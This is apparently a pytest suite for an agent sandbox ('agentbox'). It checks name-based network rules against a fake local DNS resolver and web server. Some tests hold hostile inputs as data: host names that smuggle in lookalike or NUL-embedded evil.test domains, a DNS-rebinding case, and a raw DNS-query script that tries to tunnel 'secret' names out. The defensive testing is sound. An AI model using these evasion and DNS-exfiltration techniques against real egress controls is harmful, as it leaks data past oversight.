"""Whole runs against servers that are reached by name: a small internet of a resolver and two hosts, in a namespace.

Nothing of it leaves the machine; the programs are curl, Node and Python as they are, without proxy variables.
"""

from __future__ import annotations

import json
import os
import shutil
import socket
import subprocess
import sys
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest
from confined_child import in_child
from kit.waiting import PATIENCE
from neighbour import listening

from agentbox.guard.kernel import dnswire, landlock, netns, seccomp, syscalls

MISSING = netns.NETNS.probe() or landlock.LANDLOCK.probe() or seccomp.SECCOMP.probe()
pytestmark = [
    pytest.mark.skipif(bool(MISSING), reason=f"kernel layers: {MISSING}"),
    pytest.mark.skipif(os.getuid() != 0, reason="user: the small internet needs a mount namespace of root's"),
]

PUBLIC = "93.184.216.34"
ASTRAY = ("evil-web.example.test", "web.example.test.evil.test", "web.example.testx", "eb.example.test", "example.test",
          "www.web.example.test")  # fmt: skip
ZONE = {
    **dict.fromkeys(("web.example.test", "other.example.test", *ASTRAY), PUBLIC), "inner.example.test": "127.0.0.1",
}  # fmt: skip


class Internet:
    """What the resolver was asked, and the paths that the web server served with the Host of each."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        self.served: list[str] = []

    def resolve(self, server: socket.socket) -> None:
        while True:
            data, peer = server.recvfrom(4096)
            question = dnswire.parse(data)
            self.asked.append(question.name)
            address = ZONE.get(question.name)
            if address is None:
                server.sendto(dnswire.reply(question, dnswire.NO_SUCH_NAME), peer)
            elif question.kind == dnswire.A:
                server.sendto(dnswire.reply(question, 0, ((1, socket.inet_aton(address)),), ttl=5), peer)
            else:
                server.sendto(dnswire.reply(question, 0), peer)

    def serve(self, server: socket.socket) -> None:
        while True:
            connection, _ = server.accept()
            with connection:
                head = connection.recv(65536).decode()
                host = next(line[6:] for line in head.split("\r\n") if line.lower().startswith("host: "))
                self.served.append(host)
                body = f"hello from {host}\n"
                reply = f"HTTP/1.1 200 OK\r\nContent-Length: {len(body)}\r\nConnection: close\r\n\r\n{body}"
                connection.sendall(reply.encode())


@contextmanager
def internet(folder: Path) -> Iterator[Internet]:
    """In a child of its own: this process is in the small internet for good."""
    web = listening(PUBLIC, 80)
    syscalls.unshare(syscalls.CLONE_NEWNS)
    syscalls.mount("none", "/", None, syscalls.MS_REC | syscalls.MS_PRIVATE)
    resolver = folder / "resolv.conf"
    resolver.write_text("nameserver 127.0.0.1\nsearch corp.test\noptions timeout:1 attempts:1\n")
    syscalls.mount(str(resolver), os.path.realpath("/etc/resolv.conf"), None, syscalls.MS_BIND)
    made = Internet()
    queries = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    queries.bind(("127.0.0.1", 53))
    threading.Thread(target=made.resolve, args=(queries,), daemon=True).start()
    for server in (web, socket.create_server(("127.0.0.1", 80))):
        threading.Thread(target=made.serve, args=(server,), daemon=True).start()
    yield made


def box(folder: Path, policy: str, *command: str) -> tuple[str, str, list[dict[str, Any]]]:
    """Output, errors and trace of a run."""
    (folder / "agentbox.policy").write_text(policy)
    done = subprocess.run(
        [sys.executable, "-m", "agentbox.cli", "run", "--", *command],
        cwd=folder,
        env={"PATH": os.environ["PATH"], "HOME": str(folder)},
        capture_output=True,
        text=True,
        timeout=PATIENCE,
        check=False,
    )
    trace = [json.loads(line) for line in (folder / "trace.jsonl").read_text().splitlines()]
    return done.stdout, done.stderr, trace


def fetch(program: str, url: str) -> tuple[str, ...]:
    if program == "curl":
        return ("curl", "-sS", "--max-time", "20", url)
    if program == "node":
        code = f"fetch('{url}').then(r => r.text()).then(t => process.stdout.write(t), e => console.log(e.cause.code))"
        return ("node", "-e", code)
    code = f"import urllib.request as u; print(u.urlopen('{url}', timeout=100).read().decode(), end='')"
    return (sys.executable, *(("-I",) if program == "python -I" else ()), "-c", code)


PROGRAMS = ["curl", "node", "python", "python -I"]


def of(trace: list[dict[str, Any]], kind: str, op: str) -> list[dict[str, Any]]:
    return [entry["args"] for entry in trace if entry["kind"] == kind and entry["op"] == op]


@pytest.mark.parametrize("program", PROGRAMS)
def test_an_allowed_name_is_reached_and_recorded_by_name(tmp_path: Path, program: str) -> None:
    """By any program, over the name's real address; the trace has the name, and the resolver was asked for it alone."""
    need(program)

    def work() -> tuple[Any, ...]:
        with internet(tmp_path) as net:
            control = subprocess.run(
                fetch(program, "http://other.example.test/"), capture_output=True, text=True, check=False
            )
            net.asked.clear()
            rules = "net: web.example.test:80\nexec: *\n"
            return (
                control.stdout,
                *box(tmp_path, rules, *fetch(program, "http://web.example.test/")),
                net.asked,
                net.served,
            )

    control, out, errors, trace, asked, served = in_child(work)
    assert control == "hello from other.example.test\n"
    assert out == "hello from web.example.test\n", errors
    assert set(asked) == {"web.example.test"} and served[-1] == "web.example.test"
    connects = of(trace, "observe", "net.connect")
    assert [(one["host"], one["address"], one["port"]) for one in connects if one["port"] == 80] == [
        ("web.example.test", PUBLIC, 80)
    ]
    assert not [entry for entry in trace if entry["kind"] == "deny" and entry["op"].startswith("net.")]


@pytest.mark.attempt("N7")
@pytest.mark.parametrize("program", PROGRAMS)
def test_another_name_is_refused_without_a_query(tmp_path: Path, program: str) -> None:
    """The name is denied once, with the line that would allow it; the resolver never hears of it."""
    need(program)

    def work() -> tuple[Any, ...]:
        with internet(tmp_path) as net:
            rules = "net: web.example.test:80\nexec: *\n"
            return *box(tmp_path, rules, *fetch(program, "http://other.example.test/")), net.asked, net.served

    out, _, trace, asked, served = in_child(work)
    assert "hello" not in out and served == [] and asked == []
    denied = [entry for entry in trace if entry["kind"] == "deny" and entry["op"].startswith("net.")]
    assert any("net: other.example.test" in str(entry.get("fix")) for entry in denied)


NAMES = """
import socket, sys
for name in sys.argv[1:]:
    try:
        with socket.create_connection((name.replace("\\0", chr(0)), 80), timeout=100) as one:
            one.sendall(b"GET / HTTP/1.1\\r\\nHost: " + ascii(name).encode() + b"\\r\\n\\r\\n")
            print(name, one.recv(99)[9:12] == b"200")
    except (OSError, ValueError) as error:
        print(name, type(error).__name__)
"""
SAME = ("web.example.test", "WEB.Example.Test", "web.example.test.", "ｗｅｂ.example.test", "web。example。test")
NO_NAMES = ("web.example.test@evil.test", "web.example.test\\0.evil.test", "web.example.test/", "web.example.test:80",
            "web..example.test", " web.example.test", "*.example.test", "xn--web.example.test")  # fmt: skip


@pytest.mark.attempt("N4")
def test_no_other_name_passes_for_an_allowed_one(tmp_path: Path) -> None:
    """Names before, behind and around it; what is the same name in another spelling (RFC 4343, IDNA) is that one."""

    def work() -> tuple[Any, ...]:
        with internet(tmp_path) as net:
            command = (sys.executable, "-I", "-c", NAMES, *SAME, *ASTRAY, *NO_NAMES)
            bare = subprocess.run(command, capture_output=True, text=True, check=False).stdout
            net.asked.clear()
            net.served.clear()
            return bare, *box(tmp_path, "net: web.example.test:80\nexec: *\n", *command), net.asked, net.served

    bare, out, errors, trace, asked, served = in_child(work)
    assert {line for line in bare.splitlines() if line.endswith(" True")} == {f"{name} True" for name in SAME + ASTRAY}
    assert {line for line in out.splitlines() if line.endswith(" True")} == {f"{name} True" for name in SAME}, errors
    assert set(asked) == {"web.example.test"}
    assert {name.strip("'") for name in served} == {ascii(one)[1:-1] for one in SAME}
    denied = {entry["args"].get("host") for entry in trace if entry["kind"] == "deny" and entry["op"] == "net.resolve"}
    assert set(ASTRAY) <= denied


@pytest.mark.attempt("N6")
@pytest.mark.parametrize("program", ["curl", "python -I"])
def test_an_allowed_name_does_not_lead_to_this_machine(tmp_path: Path, program: str) -> None:
    """Rebinding: the name is allowed, the loopback address that it resolves to is not; with a rule for that it is."""
    need(program)

    def work() -> tuple[Any, ...]:
        with internet(tmp_path) as net:
            command = fetch(program, "http://inner.example.test/")
            refused = box(tmp_path, "net: inner.example.test\nexec: *\n", *command)
            before = list(net.served)
            allowed = box(tmp_path, "net: inner.example.test\nnet: 127.0.0.1:80\nexec: *\n", *command)
            return refused[0], before, allowed[0]

    refused, served, allowed = in_child(work)
    assert "hello" not in refused and served == []
    assert allowed == "hello from inner.example.test\n"


@pytest.mark.parametrize("program", ["curl", "python -I"])
def test_the_real_address_alone_is_not_allowed_by_the_name(tmp_path: Path, program: str) -> None:
    """Nor is another port of the allowed name, nor an address that was made up."""
    need(program)

    def work() -> list[str]:
        with internet(tmp_path) as net:
            rules = "net: web.example.test:80\nexec: *\n"
            urls = (f"http://{PUBLIC}/", "http://web.example.test:81/", "http://198.18.5.5/", "http://127.0.0.1/")
            return [box(tmp_path, rules, *fetch(program, url))[0] for url in urls] + net.served

    assert not any("hello" in out for out in in_child(work, timeout=PATIENCE))


def need(program: str) -> None:
    if program in ("curl", "node") and shutil.which(program) is None:
        pytest.skip(f"{program}: not installed")


@pytest.mark.attempt("N7")
def test_dns_cannot_carry_anything_out(tmp_path: Path) -> None:
    """Raw queries over UDP and TCP, to the resolver and to others, for names that no rule allows: nobody hears."""
    code = f"""
import socket, struct
def query(name):
    data = struct.pack('!6H', 7, 0x100, 1, 0, 0, 0)
    return data + b''.join(bytes((len(l),)) + l.encode() for l in name.split('.')) + b'\\0\\0\\1\\0\\1'
for place in (('127.0.0.1', 53), ('{PUBLIC}', 53), ('8.8.8.8', 53)):
    for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
        s = socket.socket(socket.AF_INET, kind)
        s.settimeout(3)
        try:
            if kind == socket.SOCK_STREAM:
                s.connect(place)
                q = query('tcp-secret.evil.test')
                s.sendall(struct.pack('!H', len(q)) + q)
                print(place[0], 'tcp', s.recv(600)[5] & 15)
            else:
                s.sendto(query('udp-secret.evil.test'), place)
                print(place[0], 'udp', s.recv(600)[3] & 15)
        except OSError as e:
            print(place[0], kind.name, 'failed')
"""

    def work() -> tuple[Any, ...]:
        with internet(tmp_path) as net:
            out = box(tmp_path, "net: web.example.test\nexec: *\n", sys.executable, "-I", "-c", code)
            return *out, net.asked

    out, _, trace, asked = in_child(work)
    assert asked == []
    assert out.splitlines()[:2] == ["127.0.0.1 udp 3", "127.0.0.1 tcp 3"]
    assert all(line.endswith("failed") for line in out.splitlines()[2:])
    assert {"udp-secret.evil.test", "tcp-secret.evil.test"} <= {
        str(entry["args"].get("host")) for entry in trace if entry["kind"] == "deny"
    }
